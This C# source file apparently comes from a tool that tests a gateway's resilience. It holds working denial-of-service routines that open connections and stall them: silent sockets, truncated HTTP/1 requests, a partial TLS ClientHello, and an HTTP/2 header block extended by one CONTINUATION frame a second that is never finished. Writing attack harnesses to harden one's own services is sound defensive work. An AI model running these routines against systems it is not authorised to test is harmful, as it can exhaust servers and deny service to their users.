using System.Net.Security;

namespace Counter.Attack.Attackers;

/// <summary>Attackers that open a connection and send nothing, or an incomplete message.</summary>
internal static class HalfOpen
{
    // The first eleven bytes of a record of 512 bytes with the client hello of TLS 1.2.
    private static readonly byte[] HalfHello = [0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xFC, 0x03, 0x03];

    public static Task SayNothingAsync(Target target, int number, Action<string> count, CancellationToken over) =>
        SayAsync(target, target.Plain, number, [], count, over);

    public static Task BeginRequestAsync(Target target, int number, Action<string> count, CancellationToken over) =>
        SayAsync(target, target.Plain, number, Http1.Request(target, "/")[..30], count, over);

    public static Task BeginHelloAsync(Target target, int number, Action<string> count, CancellationToken over) =>
        SayAsync(target, target.Secure, number, HalfHello, count, over);

    public static async Task SayNothingSecurelyAsync(Target target, int number, Action<string> count, CancellationToken over)
    {
        await using var stream = await target.ConnectSecurelyAsync(number, SslApplicationProtocol.Http11, cancellationToken: over);
        await stream.ReadAnswersAsync(count, over);
    }

    public static async Task SendPrefaceAsync(Target target, int number, Action<string> count, CancellationToken over)
    {
        await using var connection = await Http2Connection.BeginAsync(target, number, buffer: 0, over);
        await connection.ReadToEndAsync(count, over);
    }

    public static async Task SendSettingsAsync(Target target, int number, Action<string> count, CancellationToken over)
    {
        await using var connection = await Http2Connection.OpenAsync(target, number, ushort.MaxValue, over);
        await connection.ReadToEndAsync(count, over);
    }

    /// <summary>Sends one more header a second and never the last one.</summary>
    public static async Task ContinueHeadersAsync(Target target, int number, Action<string> count, CancellationToken over)
    {
        await using var connection = await Http2Connection.OpenAsync(target, number, ushort.MaxValue, over);

        // The gateway's settings are acknowledged first, because no frame may come between headers and their continuation.
        while ((await connection.ReadAsync(over)).Type != Http2Connection.Settings)
        {
            // Waits for the settings.
        }

        await connection.WriteAsync(Http2Connection.Request(target, stream: 1, "/", flags: 0), over);

        // "x: y" as a literal without indexing.
        var more = Http2Connection.Frame(Http2Connection.Continuation, 0, 1, [0x00, 0x01, (byte)'x', 0x01, (byte)'y']);
        await Http1.EitherAsync(ended => connection.ReadToEndAsync(count, ended), async ended =>
        {
            while (true)
            {
                await Task.Delay(TimeSpan.FromSeconds(1), ended);
                await connection.WriteAsync(more, ended);
            }
        }, over);
    }

    private static async Task SayAsync(Target target, Uri to, int number, byte[] bytes, Action<string> count, CancellationToken over)
    {
        await using var stream = await target.ConnectAsync(number, to, cancellationToken: over);
        await stream.WriteAsync(bytes, over);
        await stream.ReadAnswersAsync(count, over);
    }
}
